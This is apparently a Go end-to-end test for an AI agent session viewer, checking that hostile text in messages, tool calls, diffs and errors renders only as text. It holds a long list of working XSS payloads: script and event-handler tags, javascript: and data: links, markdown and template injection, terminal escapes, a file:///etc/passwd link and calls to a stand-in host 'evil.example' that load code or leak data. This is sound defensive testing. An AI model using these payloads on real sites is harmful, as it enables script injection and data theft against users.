package e2e_test

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"fairlead/llm"
	"fairlead/permission"
	"fairlead/session"
	"fairlead/store"
	"fairlead/tool"
	"fairlead/toolbox"
)

// hostile are texts that would run, load or send something if any sink took them
// for more than text. Each marks itself by setting window.owned.
func hostile() []string {
	const run = "window.owned=1"
	shapes := []string{
		`<script>%s</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<img src=x onerror="%s">`, `<img src="https://evil.example/leak?c=1">`, `<svg onload="%s">`,
		`<svg><script>%s</script></svg>`, `<svg><animate onbegin="%s" attributeName=x dur=1s>`, `<svg><use href="https://evil.example/x.svg#a"></use></svg>`, `<iframe src="javascript:%s"></iframe>`,
		`<iframe srcdoc="<script>parent.%s</script>"></iframe>`, `<object data="https://evil.example/x"></object>`, `<embed src="https://evil.example/x">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
		`<link rel=prefetch href="https://evil.example/x">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<style>@import url(https://evil.example/x.css);</style>`,
		`<style>body{background:url(https://evil.example/x)}</style>`, `<div style="background:url(https://evil.example/x)">x</div>`, `<form action="https://evil.example/"><input name=a autofocus onfocus="%s"></form>`,
		`<input autofocus onfocus="%s">`, `<details open ontoggle="%s">x</details>`, `<video src="https://evil.example/x" onerror="%s"></video>`, `<audio src=x onerror="%s">`, `<body onload="%s">`, `<marquee onstart="%s">x</marquee>`,
		`<a href="javascript:%s">x</a>`, `<a href=" javascript:%s">x</a>`, `<a href="java&#115;cript:%s">x</a>`, `<a href="data:text/html,<script>%s</script>">x</a>`, `<math><mtext><table><mglyph><style><img src=x onerror="%s">`,
		`<template><img src=x onerror="%s"></template>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`, `<p id="attributes"><img name=cookie>`, `"><img src=x onerror="%s">`, `'-%s-'`, `</textarea><script>%s</script>`, `</title><script>%s</script>`,
		`<!--><img src=x onerror="%s">-->`, `<![CDATA[<script>%s</script>]]>`, `{{constructor.constructor('%s')()}}`, "${%s}", `<picture><source srcset="https://evil.example/x"><img></picture>`, `<img srcset="https://evil.example/x 2x">`,
		`[x](javascript:%s)`, `[x](JaVaScRiPt:%s)`, `[x](vbscript:%s)`, `[x](data:text/html;base64,PHNjcmlwdD4)`, `[x](file:///etc/passwd)`, `[x](//evil.example/x)`, `![x](https://evil.example/leak?d=1)`, `![x](javascript:%s)`,
		`<https://evil.example/"onmouseover="%s>`, "[x]: https://evil.example/\n[x]", `[x](https://a.example "title\" onmouseover=\"%s")`, "```html\n<script>%s</script>\n```", "`<img src=x onerror=%s>`",
		"| <img src=x onerror=%s> |\n|---|\n| x |", "- <script>%s</script>", "> <svg onload=%s>", "# <img src=x onerror=%s>", "![a](x \"<img src=x onerror=%s>\")", "**<img src=x onerror=%s>**", "<div class=ask><button class='btn go'>Approve</button></div>",
		"\x1b]8;;javascript:%s\x1b\\x\x1b]8;;\x1b\\", "\x1b[31m<script>%s</script>\x1b[0m", "\u202e<script>%s</script>",
	}
	var list []string
	for _, shape := range shapes {
		text := strings.ReplaceAll(shape, "%s", run)
		list = append(list, text, "before "+text+" after", strings.ToUpper(text[:1])+text[1:]+"\n\n"+text)
	}
	return list
}

// sown makes a session in which every kind of text that others write is hostile.
func sown(t *testing.T, h *host, texts []string) session.ID {
	t.Helper()
	ctx := context.Background()
	files := store.New(store.Options{Dir: filepath.Join(h.home, "sessions")})
	lib := session.NewLibrary(session.Options{Store: files, Version: "e2e",
		Kinds: session.NewKindTable(session.Kinds(), tool.Kinds(), permission.Kinds(), toolbox.Kinds())})
	log, err := lib.Create(ctx, session.CreatedData{Folder: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for i, x := range texts {
		turn := i + 1
		call := fmt.Sprint("c", i)
		diff := "--- a\n+++ b\n@@ -1 +1 @@\n-" + strings.ReplaceAll(x, "\n", " ") + "\n+" + strings.ReplaceAll(x, "\n", " ") + "\n"
		card := tool.Card{Title: "change-file", Hero: x, Why: x, Facts: []tool.Fact{{Key: "card.secret", Values: map[string]any{"path": x}}, {Key: x}},
			Parts: []tool.CardPart{{Name: "change", Kind: "diff", Path: x, Text: diff}, {Name: x, Kind: "text", Path: x, Text: x}}}
		_, err := log.Append(ctx,
			session.Titled.New(0, 0, session.TitledData{Title: x, By: "model"}),
			session.TurnStart.New(turn, 0, session.TurnStartData{Mode: "manual"}),
			session.UserMessage.New(turn, 1, session.UserMessageData{ID: call, Content: llm.Text(x)}),
			session.AssistantMessage.New(turn, 1, session.AssistantMessageData{ID: "m" + call, Content: llm.Text(x), Reasoning: []llm.Reasoning{{Text: x}},
				Calls: []llm.Call{{ID: "k", Name: x, Arguments: x}}}),
			session.ToolCall.New(turn, 1, session.ToolCallData{Call: call, ModelID: "k", Caller: "model", Tool: x, Arguments: x, Present: session.Present{Verb: "run", What: x, Full: x}}),
			tool.Asked.New(turn, 1, tool.AskedData{Call: call, Hash: "h", Tool: x, Card: card, Mode: "manual"}),
			tool.Decided.New(turn, 1, tool.DecidedData{Call: call, Decision: "approved", By: "person", Note: x, Reason: x, Rule: x}),
			session.ToolStarted.New(turn, 1, session.ToolStartedData{Call: call}),
			session.ToolResult.New(turn, 1, session.ToolResultData{Call: call, ModelID: "k", Failed: true, Code: x, Content: llm.Text(x), View: []byte(`{"kind":"terminal","exitCode":1}`)}),
			session.Note.New(turn, 1, session.NoteData{Key: x, Text: x, Level: "bad"}),
			session.TurnEnd.New(turn, 1, session.TurnEndData{Reason: session.EndReason{Kind: session.EndError}, Text: x, Error: &session.ErrorData{Code: x, Message: x, Details: x}}),
		)
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := log.Close(ctx); err != nil {
		t.Fatal(err)
	}
	if err := files.Close(); err != nil {
		t.Fatal(err)
	}
	return log.ID()
}

// anything that text must never become.
const foreignBody = `[...document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app link, #app meta, #app base, #app style, #app form, #app video, #app audio, #app source, #app template')].map((e) => e.outerHTML)
  .concat([...document.querySelectorAll('#app *')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).map((e) => e.outerHTML))
  .concat([...document.querySelectorAll('#app img')].filter((e) => !/^(blob|data):/.test(e.src)).map((e) => e.outerHTML))
  .concat([...document.querySelectorAll('#app a[href]')].filter((e) => !/^(https?|mailto):/.test(e.href)).map((e) => e.outerHTML))
  .concat([...document.querySelectorAll('.prose .ask, .prose .btn, .prose button:not(.mini):not(.more)')].map((e) => e.outerHTML)).map((s) => s.slice(0, 200))`

func TestHostileTextStaysText(t *testing.T) {
	texts := hostile()
	if len(texts) < 200 {
		t.Fatalf("only %d texts", len(texts))
	}
	h := &host{t: t, home: t.TempDir(), addr: "127.0.0.1:0"}
	id := sown(t, h, texts)
	h.start()
	t.Cleanup(h.stop)
	p := h.signIn(1280, 6000)
	eval[bool](p, `localStorage.setItem('fairlead.prefs', '{"keepSteps":true}'); true`)
	p.open(h.url("/s/" + string(id)))
	p.wait(`document.querySelector('.errorcard')`)
	// All of it is drawn and opened: every fold, every detail, every decided card.
	const walk = `(async () => {
	  const found = new Set(), s = document.querySelector('.scroll')
	  for (let n = 0; n < 400; n++) {
	    for (const b of document.querySelectorAll('.chunk [aria-expanded=false]:not([aria-haspopup])')) b.click()
	    for (const d of document.querySelectorAll('.chunk details')) d.open = true
	    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))
	    for (const bad of ` + foreignBody + `) found.add(bad)
	    if (s.scrollTop < 2 && !document.querySelector('.older')) break
	    s.scrollTop -= 4000
	  }
	  return [...found]
	})()`
	for _, bad := range eval[[]string](p, walk) {
		t.Error("text became " + bad)
	}
	p.wait(`!document.querySelector('.older')`)
	if eval[bool](p, `window.owned !== undefined`) {
		t.Error("a text ran as script")
	}
	// The browser's own list of what was fetched: nothing but this host.
	for _, url := range eval[[]string](p, `performance.getEntriesByType('resource').map((e) => e.name).filter((u) => !u.startsWith(location.origin) && !u.startsWith('blob:') && !u.startsWith('data:'))`) {
		t.Error("the page fetched " + url)
	}
}
